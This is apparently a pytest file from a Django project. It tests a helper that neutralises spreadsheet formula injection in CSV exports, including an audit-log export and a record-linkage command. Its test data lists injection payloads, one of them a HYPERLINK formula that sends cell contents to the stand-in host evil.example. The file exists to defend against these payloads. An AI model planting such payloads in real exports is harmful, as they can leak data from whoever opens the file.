"""No CSV the system writes can run a formula: the helper, and every writer that uses it."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse

from mace.accounts.models import Role
from mace.audit.models import Event
from mace.core import csvsafe
from tests.factories import ChildFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value):
    assert csvsafe.cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Jade Brown", "child.viewed", "2026-12-01T10:00:00+00:00", "a=b", "", "LS8 5AB"]
)
def test_ordinary_text_is_unchanged(value):
    assert csvsafe.cell(value) == value


def test_numbers_and_empty_values_are_written_as_they_are():
    assert csvsafe.row([-3, 0.25, Decimal("-1.5"), None, True]) == [
        -3,
        0.25,
        Decimal("-1.5"),
        "",
        "True",
    ]


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = csvsafe.writer(out)
    writer.writerow(["ok", "=1+2"])
    writer.writerows([["@x", "-2"], ["fine", 7]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["ok", "'=1+2"],
        ["'@x", "'-2"],
        ["fine", "7"],
    ]


def _no_cell_is_a_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(csvsafe.FORMULA_TRIGGERS), (value, row)


@pytest.mark.django_db
def test_the_access_log_export_neutralises_a_hostile_user_agent_and_reason(make_user, signed_in):
    coordinator = make_user(Role.COORDINATOR)
    child = ChildFactory(restricted=True)
    client = signed_in(coordinator)
    response = client.post(
        reverse("people:break_glass", args=[child.id]),
        {"reason": "=1+2 is what an attacker types as a reason"},
        HTTP_USER_AGENT=HOSTILE[0],
    )
    assert response.status_code == 302
    event = Event.objects.get(verb=Event.Verb.BREAK_GLASS)
    assert event.user_agent == HOSTILE[0]  # the log itself keeps what was sent
    assert event.reason.startswith("=1+2")

    client.logout()
    client = signed_in(make_user(Role.AUDITOR))
    response = client.get(reverse("audit:log_export"), {"verb": Event.Verb.BREAK_GLASS})
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    header, *body = rows
    [row] = body
    record = dict(zip(header, row, strict=True))
    assert record["user_agent"] == "'" + HOSTILE[0]
    assert record["reason"] == "'=1+2 is what an attacker types as a reason"
    _no_cell_is_a_formula(body)


@pytest.mark.django_db
def test_mace_link_output_neutralises_hostile_ids(tmp_path: Path):
    header = "id,given_name,family_name,date_of_birth,sex,postcode,address\n"
    a = tmp_path / "a.csv"
    b = tmp_path / "b.csv"
    a.write_text(header + '"=HYPERLINK(""http://evil.example"")",William,Smith,2011-04-03,,,\n')
    b.write_text(header + "@SUM(A1),William,Smith,2011-04-03,,,\n")
    out = tmp_path / "matches.csv"
    call_command("link", a=a, b=b, out=out, explain=True, verbosity=0)
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header_row, *body = rows
    assert header_row[:3] == ["id_a", "id_b", "score"]
    assert body, "the two Williams should match"
    assert body[0][0] == "'" + '=HYPERLINK("http://evil.example")'
    assert body[0][1] == "'@SUM(A1)"
    _no_cell_is_a_formula(body)


def test_no_module_writes_csv_except_through_the_helper():
    """A new CSV writer that bypasses the helper fails here."""
    src = Path(__file__).resolve().parents[2] / "src" / "mace"
    offenders = [
        str(path.relative_to(src))
        for path in src.rglob("*.py")
        if path.name != "csvsafe.py"
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert offenders == []
